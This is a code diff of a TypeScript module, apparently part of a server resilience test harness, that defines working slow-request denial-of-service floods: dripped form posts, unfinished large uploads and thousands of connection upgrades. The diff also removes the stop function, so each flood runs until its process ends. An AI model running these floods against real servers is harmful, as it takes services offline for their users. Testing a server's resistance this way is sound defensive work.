@@ -1,33 +1,23 @@
-// What one address can do to a server. Each attack goes on until it is told to stop.
+// What one address can do to a server. Each attack goes on until its process ends.
 import type { Socket } from "node:net";
 import { addresses, openSocket, originOf, type Target } from "./http-client.ts";
 
-export type Attack = { name: string; start(target: Target): () => void };
+type Attack = { name: string; run(target: Target): void };
 
 const postHead = (target: Target, path: string, length: number) =>
   `POST ${path} HTTP/1.1\r\nhost: ${target.host}\r\norigin: ${originOf(target)}\r\n` +
   `content-type: multipart/form-data; boundary=b\r\ncontent-length: ${length}\r\n\r\n`;
 
 /** Keeps a fixed number of connections busy; one that was closed is opened again. */
-function keepOpen(count: number, target: Target, begin: (socket: Socket) => void): () => void {
-  const sockets = new Set<Socket>();
-  let isStopped = false;
+function keepOpen(count: number, target: Target, begin: (socket: Socket) => void): void {
   const open = () => {
     const socket = openSocket(target, addresses.attacker);
-    sockets.add(socket);
     socket.on("error", () => undefined);
     socket.on("data", () => undefined);
     socket.once(target.isSecure ? "secureConnect" : "connect", () => begin(socket));
-    socket.once("close", () => {
-      sockets.delete(socket);
-      if (!isStopped) setTimeout(open, 250);
-    });
+    socket.once("close", () => setTimeout(open, 250));
   };
   for (let i = 0; i < count; i += 1) open();
-  return () => {
-    isStopped = true;
-    for (const socket of sockets) socket.destroy();
-  };
 }
 
 /** Writes chunk after chunk, with a pause between them, while the other side takes them. */
@@ -39,7 +29,7 @@ function drip(socket: Socket, chunk: Buffer, everyMs: number) {
 export const attacks: readonly Attack[] = [
   {
     name: "400 slow forms",
-    start: (target) =>
+    run: (target) =>
       keepOpen(400, target, (socket) => {
         socket.write(postHead(target, "/auth", 60_000));
         drip(socket, Buffer.from("a"), 2_000);
@@ -47,7 +37,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: "60 unfinished forms of 9.5 MB",
-    start: (target) =>
+    run: (target) =>
       keepOpen(60, target, (socket) => {
         socket.write(postHead(target, "/auth", 9_500_000));
         drip(socket, Buffer.alloc(190_000, 0x61), 20);
@@ -55,7 +45,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: "100 uploads that never end",
-    start: (target) =>
+    run: (target) =>
       keepOpen(100, target, (socket) => {
         socket.write(postHead(target, "/api/documents", 39_000_000));
         drip(socket, Buffer.alloc(20_000, 0x61), 2_000);
@@ -63,7 +53,7 @@ export const attacks: readonly Attack[] = [
   },
   {
     name: "3,000 upgrades",
-    start: (target) =>
+    run: (target) =>
       keepOpen(3_000, target, (socket) => {
         socket.write(
           `GET /auth HTTP/1.1\r\nhost: ${target.host}\r\n` +
